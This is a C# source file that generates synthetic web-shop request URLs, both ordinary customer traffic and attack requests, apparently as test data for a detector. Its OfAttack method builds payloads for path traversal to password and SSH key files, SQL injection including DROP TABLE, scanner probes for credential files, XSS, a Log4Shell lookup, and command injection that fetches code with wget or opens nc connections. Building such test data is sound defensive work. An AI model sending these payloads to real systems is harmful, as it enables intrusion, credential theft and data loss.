namespace StreamLstm.Backtesting.Demonstrations;

/// <summary>What a shop is asked for: paths and queries of its pages, pictures and interfaces; and what those ask who look for a way in.</summary>
/// <remarks>
/// Ordinary ones have random identifiers, percent signs and long queries too. The attacks are of the kinds that OWASP's testing guide describes (path traversal, SQL
/// injection, cross-site scripting, command injection) and what scanners ask for that do not know what is there.
/// </remarks>
internal sealed class ShopUrls(Random random)
{
    private static readonly string[] Colours = ["red", "blue", "green", "black", "white", "grey", "olive", "sand"];
    private static readonly string[] Materials = ["wool", "cotton", "leather", "linen", "steel", "oak", "glass", "cork"];
    private static readonly string[] Things = ["jacket", "boots", "lamp", "table", "shirt", "bag", "chair", "scarf", "kettle", "rug", "shelf", "mug"];
    private static readonly string[] Categories = ["women", "men", "kids", "home", "kitchen", "garden", "sale", "new", "shoes"];
    private static readonly string[] Sources = ["newsletter", "google", "instagram", "partner", "qr"];
    private static readonly string[] Months = ["january", "march", "may", "july", "september", "november"];

    /// <summary>Kinds of attacks.</summary>
    public static readonly IReadOnlyList<string> Families = ["path traversal", "SQL injection", "scanners", "scripts and commands"];

    /// <summary>What a customer's browser asks for.</summary>
    public string Ordinary()
    {
        string slug = Slug(), id = Id();
        return random.Next(20) switch
        {
            0 => random.Often("/", "/cart", "/login", "/robots.txt", "/sitemap.xml", "/feed.xml", "/favicon.ico"),
            1 or 2 or 3 => $"/category/{random.Often(Categories)}?page={random.Next(1, 30)}&sort={random.Often("rating", "price", "name")}",
            4 or 5 or 6 => $"/product/{slug}-{id}",
            7 or 8 => $"/search?q={random.Often(random.One(Colours), random.One(Things), $"{random.One(Materials)}+{random.One(Things)}", $"{random.One(Things)}+size+{random.Next(30, 50)}", "caf%C3%A9+mug")}&page={random.Next(1, 9)}",
            9 => $"/cart/add?product={id}&qty={random.Next(1, 5)}",
            10 => $"/checkout/{random.Often("shipping", "payment", "done")}?order={random.Hex(8)}",
            11 or 12 => $"/static/{random.One("css/main", "js/app", "js/vendor", "css/print")}.{random.Hex(8)}.{random.One("css", "js", "map")}",
            13 or 14 => $"/img/{random.One("320x240", "640x480", "1280x960")}/{slug}-{id}.{random.Often("webp", "jpg")}",
            15 or 16 => $"/api/v2/products/{id}/{random.Often("reviews", "stock", "similar")}?limit={random.One("10", "20", "50")}&offset={10 * random.Next(0, 30)}",
            17 => $"/account/orders/2026-{random.Next(10_000, 100_000)}",
            18 => $"/login?next=%2F{random.One("checkout%2Fpayment", "account%2Forders", $"product%2F{slug}-{id}")}",
            _ => random.One(
                $"/?utm_source={random.Often(Sources)}&utm_campaign={random.One(Things)}-{random.One(Months)}&gclid={random.Encoded(20).Replace('+', '-').Replace('/', '_')}",
                $"/track?session={random.Hex(16)}&event={random.Often("view", "click", "scroll")}&t={random.NextInt64(1_767_225_600_000, 1_798_761_600_000)}"),
        };
    }

    /// <summary>An attack, of one of <see cref="Families"/>.</summary>
    public string OfAttack(int family)
    {
        string up = string.Concat(Enumerable.Repeat(random.One("../", "..%2f", "%2e%2e/", "....//", "..%252f", "..\\"), random.Next(2, 8)));
        string place = random.One("/static/css/", "/img/640x480/", "/static/js/", "/api/v2/products/", "/download?file=", "/category/", "/product/");
        string secret = random.One("etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", "var/www/.env", "root/.ssh/id_rsa", "etc/hosts%00");
        string at = random.One($"/product/{Slug()}-{Id()}", $"/cart/add?product={Id()}", $"/search?q={random.One(Things)}", $"/category/{random.One(Categories)}?page={random.Next(1, 30)}", $"/api/v2/products/{Id()}/reviews?limit=10");
        string quote = random.One("'", "%27", "\"", "')", "%27)"), gap = random.One("+", "%20", "/**/");
        return family switch
        {
            0 => $"{place}{up}{secret}",
            1 => at + random.Next(6) switch
            {
                0 => $"{quote}{gap}OR{gap}{quote}1{quote}={quote}1",
                1 => $"{quote}{gap}UNION{gap}SELECT{gap}{string.Join(',', Enumerable.Repeat("NULL", random.Next(1, 7)))}--",
                2 => $";{gap}DROP{gap}TABLE{gap}{random.One("orders", "users", "products")}--",
                3 => $"{gap}AND{gap}{random.One($"SLEEP({random.Next(3, 10)})", $"{random.Next(100, 999)}={random.Next(100, 999)}", "pg_sleep(5)")}",
                4 => $"{quote}--",
                _ => $"{quote}{gap}AND{gap}(SELECT{gap}COUNT(*){gap}FROM{gap}{random.One("users", "information_schema.tables")})>0--",
            },
            2 => random.One(
                $"/{random.One("", "blog/", "old/", "wp/", "site/")}{random.One("wp-login.php", "wp-admin/setup-config.php", "xmlrpc.php", "wp-content/plugins/akismet/readme.txt")}",
                $"/{random.One("", "app/", "admin/", "api/", "backend/")}{random.One(".env", ".git/config", ".aws/credentials", ".svn/entries", ".DS_Store", ".htpasswd")}",
                $"/{random.One("phpmyadmin", "pma", "mysql", "dbadmin")}/{random.One("index.php", "scripts/setup.php")}",
                $"/{random.One("backup", "shop", "db", "www", "dump")}.{random.One("zip", "sql", "tar.gz", "bak", "rar")}",
                $"/{random.One("actuator/heapdump", "solr/admin/info/system", "cgi-bin/test.cgi", "manager/html", "server-status", "console/login.action", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "boaform/admin/formLogin", "owa/auth/logon.aspx")}"),
            _ => at + random.Next(6) switch
            {
                0 => $"%3Cscript%3Ealert({random.Next(1, 100)})%3C/script%3E",
                1 => $"\"><img src=x onerror=alert({random.Next(1, 100)})>",
                2 => $"${{jndi:ldap://{random.Address()}/{random.Hex(4)}}}",
                3 => $";{random.One("id", "whoami", "cat%20/etc/passwd", $"wget%20http://{random.Address()}/{random.Hex(3)}")}",
                4 => $"|{random.One("id", "uname%20-a", $"nc%20{random.Address()}%20{random.Next(1_024, 9_999)}")}",
                _ => random.One("{{7*7}}", "<?php+system($_GET[0]);?>", "`id`", "%0d%0aSet-Cookie:%20a=b"),
            },
        };
    }

    private string Slug() => $"{random.One(Colours)}-{random.One(Materials)}-{random.Often(Things)}";

    private string Id() => $"{random.Next(100, 1_400)}";
}
